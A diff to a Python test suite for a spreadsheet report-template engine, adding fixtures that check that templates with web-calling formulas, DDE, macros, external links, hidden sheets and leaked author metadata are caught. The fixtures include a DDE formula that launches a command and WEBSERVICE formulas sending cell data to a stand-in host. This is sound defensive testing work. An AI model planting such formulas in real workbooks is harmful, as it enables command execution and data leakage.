@@ -13,7 +13,7 @@ from tests.fuzz.template_mutants import run
 from tests.reports.engine.making import make, parts, rezip
 from workbook.model import Audience, CannotDo
 from workbook.reports.content.names import tree
-from workbook.reports.engine.matter import WORDS
+from workbook.reports.engine.formula_matter import WORDS
 from workbook.reports.engine.tokens import Vocabulary
 from workbook.reports.output.template_files import find, names, open_template, what_it_asks
 
@@ -53,16 +53,88 @@ def with_link(
     return rezip(content)
 
 
+def with_xml(part: str, before: str, new: str, of: bytes | None = None) -> bytes:
+    """A template with a piece of XML put in before another in one of its parts."""
+    content = parts(of or make(page))
+    assert before.encode() in content[part], content[part]
+    content[part] = content[part].replace(before.encode(), new.encode() + before.encode(), 1)
+    return rezip(content)
+
+
+def with_name(attributes: str) -> bytes:
+    name = f"<definedNames><definedName {attributes}>1</definedName></definedNames>"
+    return with_xml("xl/workbook.xml", "<calcPr", name)
+
+
+def drawn(attributes: str, inside: str = "") -> bytes:
+    """A template with a text box, and with more in its drawing."""
+
+    def build(book: Any, sheet: Any) -> None:
+        page(book, sheet)
+        sheet.insert_textbox("D4", "Hello")
+
+    whole = make(build)
+    content = parts(whole)
+    part = "xl/drawings/drawing1.xml"
+    content[part] = (
+        content[part]
+        .replace(b'macro="" textlink=""', attributes.encode(), 1)
+        .replace(b"<xdr:sp ", inside.encode() + b"<xdr:sp ", 1)
+    )
+    return rezip(content)
+
+
+def charted(formula: str) -> bytes:
+    def build(book: Any, sheet: Any) -> None:
+        page(book, sheet)
+        chart = book.add_chart({"type": "line"})
+        chart.add_series({"values": "=Report!$B$1:$B$3"})
+        sheet.insert_chart("D4", chart)
+
+    content = parts(make(build))
+    part = "xl/charts/chart1.xml"
+    content[part] = content[part].replace(b"Report!$B$1:$B$3", formula.encode())
+    return rezip(content)
+
+
+def tabled(formula: str) -> bytes:
+    def build(book: Any, sheet: Any) -> None:
+        page(book, sheet)
+        sheet.add_table("A9:B11", {"columns": [{"header": "One"}, {"header": "Two", "formula": formula}]})
+
+    content = parts(make(build))
+    content[SHEET] = re.sub(rb"<f>[^<]*</f>", b"", content[SHEET])  # in the table alone, as Excel keeps it for new rows
+    return rezip(content)
+
+
+def hidden(how: str) -> bytes:
+    def build(book: Any, sheet: Any) -> None:
+        page(book, sheet)
+        other = book.add_worksheet("Helper")
+        (other.very_hidden if how == "very" else other.hide)()
+
+    return make(build)
+
+
 BOOK = '<externalLink xmlns="x"><externalBook/></externalLink>'
 SHEET = "xl/worksheets/sheet1.xml"
 CASES = {
     "web": [with_formula('_xlfn.WEBSERVICE("http://x.test/?"&A1)'), with_formula('_xlfn.IMAGE("http://x.test")'),
-            with_formula('RTD("a",,"b")')],
+            with_formula('RTD("a",,"b")'), with_formula("_xlfn.TRANSLATE(A1)"),
+            tabled('_xlfn.WEBSERVICE("http://x.test")'),
+            with_formula("""'a"b'!A1&_xlfn.WEBSERVICE("http://x.test")&'c"d'!A1"""),
+            with_formula("MAP(A1,_xleta.WEBSERVICE)"),
+            with_xml(SHEET, "</worksheet>", '<extLst><ext><x:f xmlns:x="y">WEBSERVICE("http://x.test")</x:f></ext></extLst>')],
     "hyperlink": [with_formula('HYPERLINK("http://x.test/?"&A1)'), with_formula("hyperlink(A1)"),
                   with_link("hyperlink", "http://x.test/?n={{learner.name}}", SHEET, external=True),
-                  with_link("hyperlink", "file:///C:/x.exe", SHEET, external=True)],
+                  with_link("hyperlink", "file:///C:/x.exe", SHEET, external=True),
+                  with_xml("xl/drawings/vmlDrawing1.vml", "<v:fill", '<a href="http://x.test"/>')],
     "workbooks": [with_formula("[1]Sheet!A1"), with_formula("SUM('[1]My sheet'!A:A)"),
-                  with_link("externalLink", "externalLinks/e.xml", data=BOOK)],
+                  with_link("externalLink", "externalLinks/e.xml", data=BOOK), charted("[1]Sheet!$A$1"),
+                  with_formula("[1]!Total"), with_formula(r"'C:\x\book.xlsx'!Total"),
+                  with_xml("xl/workbook.xml", "<calcPr",
+                           "<externalReferences><externalReference/></externalReferences>"),
+                  drawn('macro="" textlink="[1]Sheet!$A$1"')],
     "dde": [with_formula("cmd|'/c calc'!A0"), with_formula("'cmd'|'x'!'A0'"),
             with_link("externalLink", "externalLinks/e.xml", data=BOOK.replace("externalBook", "ddeLink"))],
     "ole": [with_link("oleObject", "embeddings/o.bin", SHEET, data="x"),
@@ -71,13 +143,25 @@ CASES = {
     "activex": [with_link("control", "activeX/activeX1.xml", SHEET, data="<x/>")],
     "queries": [with_link("connections", "connections.xml", data="<x/>"), with_link("queryTable", "q.xml", SHEET)],
     "macros": [with_link("vbaProject", "vbaProject.bin", data="x"), with_link("xlMacrosheet", "macrosheets/s.xml"),
-               with_formula('CALL("a","b")')],
+               with_formula('CALL("a","b")'), with_formula('REGISTER.ID("a","b")'), drawn('macro="[0]!Go"'),
+               with_formula("GET.WORKBOOK(1)"),
+               with_xml("xl/drawings/vmlDrawing1.vml", "</x:ClientData>", "<x:FmlaMacro>[0]!Go</x:FmlaMacro>"),
+               with_name('name="Auto_Open" xlm="1"')],
     "custom-xml": [with_link("customXml", "../customXml/item1.xml")],
     "fonts": [with_link("font", "fonts/f.odttf", data="x")],
-    "pictures": [with_link("image", "http://x.test/p.png", SHEET, external=True)],
-    "add-ins": [with_link("webextension", "webextensions/w.xml")],
+    "pictures": [with_link("image", "http://x.test/p.png", SHEET, external=True),
+                 with_xml("xl/drawings/vmlDrawing1.vml", "<v:fill", '<v:imagedata src="//x.test/p.png"/>')],
+    "add-ins": [with_link("webextension", "webextensions/w.xml"), with_formula("_xll.SOMETHING(A1)")],
+    "pivots": [with_link("pivotCacheDefinition", "pivotCache/p.xml", data="<x/>"),
+               with_link("slicer", "slicers/s.xml", SHEET)],
+    "hidden": [hidden("plainly"), hidden("very"),
+               with_name('name="x" hidden="1"')],
+    "other-parts": [with_link("somethingNew", "new/part.xml", data="<x/>")],
     "revisions": [with_link("revisionHeaders", "revisions/r.xml")],
-    "other-links": [with_link("attachedTemplate", "http://x.test/t.xltx", external=True)],
+    "other-links": [with_link("attachedTemplate", "http://x.test/t.xltx", external=True),
+                    with_xml(SHEET, "<legacyDrawing", '<webPublishItems><webPublishItem/></webPublishItems>'),
+                    with_xml("xl/workbook.xml", "<calcPr",
+                             '<smartTagTypes><smartTagType url="http://x.test"/></smartTagTypes>')],
 }  # fmt: skip
 
 
@@ -147,6 +231,40 @@ def test_who_made_the_template_is_in_no_report(tmp_path: Path) -> None:
     assert (
         not any("printerSettings" in name for name in report) and b'pageSetup orientation="portrait"' in report[SHEET]
     )
+
+
+def test_what_tells_of_its_maker_or_of_others_goes_by_whatever_name(tmp_path: Path) -> None:
+    """Each stood in every report: a picture of the filled page, left parts, folders, scenarios, a note's beginning."""
+    content = parts(make(page))
+    root, note = content["_rels/.rels"], content["xl/comments1.xml"]
+    links = (
+        ("http://schemas.openxmlformats.org/package/2006/relationships/metadata/thumbnail", "docProps/thumbnail.jpeg"),
+        ("http://schemas.openxmlformats.org/package/2006/relationships/digital-signature/origin", "sig/origin.sigs"),
+        (f"{OFFICE}custom-properties", "docProps/custom.xml"),
+    )
+    more = "".join(f'<Relationship Id="q{n}" Type="{kind}" Target="{part}"/>' for n, (kind, part) in enumerate(links))
+    content["_rels/.rels"] = root.replace(b"</Relationships>", more.encode() + b"</Relationships>")
+    content["docProps/thumbnail.jpeg"] = content["sig/origin.sigs"] = content["xl/old/sheet9.xml"] = b"Secret"
+    content["docProps/custom.xml"] = (
+        b'<Properties xmlns="c" xmlns:vt="v"><property name="_AuthorEmail"><vt:lpwstr>Secret</vt:lpwstr></property>'
+        b'<property name="Of"><vt:lpwstr>{{learner.first_name}}</vt:lpwstr></property></Properties>'
+    )
+    content["xl/workbook.xml"] = content["xl/workbook.xml"].replace(
+        b"<workbookPr", b'<fileSharing userName="Secret"/><a:absPath xmlns:a="a" url="C:/Secret/"/><workbookPr'
+    )
+    content[SHEET] = content[SHEET].replace(
+        b"<legacyDrawing", b'<scenarios><scenario user="Secret"/></scenarios><legacyDrawing'
+    )
+    content["xl/notes/n.xml"] = note.replace(b"Pat Smith", b"Secret").replace(b"A note", b"Secret:\nA note")
+    del content["xl/comments1.xml"]
+    rels = "xl/worksheets/_rels/sheet1.xml.rels"
+    content[rels] = content[rels].replace(b"../comments1.xml", b"../notes/n.xml")
+    template, _, _ = open_template(saved(tmp_path, rezip(content)))
+    report = parts(template.render({"learner": {"first_name": "Amira"}}))
+    assert [name for name, data in report.items() if b"Secret" in data] == []
+    assert b"A note" in report["xl/notes/n.xml"] and b"Amira" in report["docProps/custom.xml"]
+    places = {row["place"] for row in what_it_asks(tmp_path / "t.xlsx")[1]}
+    assert {"docProps/thumbnail.jpeg", "sig/origin.sigs", "xl/old/sheet9.xml", "_AuthorEmail"} <= places
 
 
 def test_a_tracker_and_a_workbook_without_names_are_no_templates(tmp_path: Path) -> None:
